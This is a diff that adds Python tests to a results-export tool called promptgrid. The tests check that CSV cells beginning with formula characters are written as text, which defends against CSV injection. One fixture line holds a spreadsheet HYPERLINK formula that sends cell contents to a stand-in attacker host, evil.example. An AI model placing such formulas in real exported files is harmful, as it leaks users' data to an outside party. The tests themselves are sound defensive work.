@@ -188,6 +188,61 @@ def test_cut_happens_after_escaping() -> None:
     assert len(text) == MAX_CELL and text.endswith(CUT_MARK)
 
 
+# --------------------------------------------------------------------------- CSV
+
+#: Text a spreadsheet would evaluate if a CSV cell held it as written (OWASP's CSV injection).
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2&B2,"Click")', "=1+1", "+1+A1", "-2+A1",
+            "@SUM(A1)", "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def csv_rows(path: Path) -> list[dict[str, str]]:
+    import csv
+
+    with path.open(newline="", encoding="utf-8") as file:
+        return list(csv.DictReader(file))
+
+
+def test_csv_writes_formulas_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
+    values = [*FORMULAS, "-2", "+1.5e3", "a=b", "plain"]
+    df = promptgrid.run(experiment(values), results_dir=tmp_path, formats="csv,parquet",
+                        progress=False)  # fmt: skip
+    folder = run_dir(tmp_path, df)
+    rows = csv_rows(folder / "results.csv")
+    assert [r["v"] for r in rows] == [*("'" + f for f in FORMULAS), "-2", "+1.5e3", "a=b", "plain"]
+    assert [r["response"] for r in rows] == [f"echo: {v}" for v in values]  # no formula there
+    assert pq.read_table(folder / "results.parquet").column("v").to_pylist() == values
+
+
+def test_csv_keeps_negative_numbers_in_numeric_columns(tmp_path: Path) -> None:
+    df = promptgrid.run(experiment([-1, -2.5]), results_dir=tmp_path, formats="csv",
+                        progress=False)  # fmt: skip
+    rows = csv_rows(run_dir(tmp_path, df) / "results.csv")
+    assert [r["v"] for r in rows] == ["-1", "-2.5"]
+
+
+def test_a_formula_in_a_header_is_text_too(tmp_path: Path) -> None:
+    spec = {**experiment(["x"]), "vars": {}, "cases": [{"=cmd": "y", "v": "x"}]}
+    df = promptgrid.run(spec, results_dir=tmp_path, formats="csv", progress=False)
+    header = (run_dir(tmp_path, df) / "results.csv").read_text(encoding="utf-8").splitlines()[0]
+    assert '"\'=cmd"' in header or "'=cmd" in header
+
+
+def test_export_csv_verbatim_writes_the_text_as_stored(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from promptgrid.cli import main
+
+    df = promptgrid.run(experiment(FORMULAS), results_dir=tmp_path, formats="csv",
+                        progress=False)  # fmt: skip
+    target = tmp_path / "raw.csv"
+    main(["export", "--results-dir", str(tmp_path), "--format", "csv", "--csv-verbatim",
+          "-o", str(target)])  # fmt: skip
+    assert capsys.readouterr().out.strip() == str(target)
+    assert [r["v"] for r in csv_rows(target)] == FORMULAS
+    first = csv_rows(run_dir(tmp_path, df) / "results.csv")[0]
+    assert first["v"] == "'" + FORMULAS[0]
+
+
 # --------------------------------------------------------------------------- JSONL
 
 
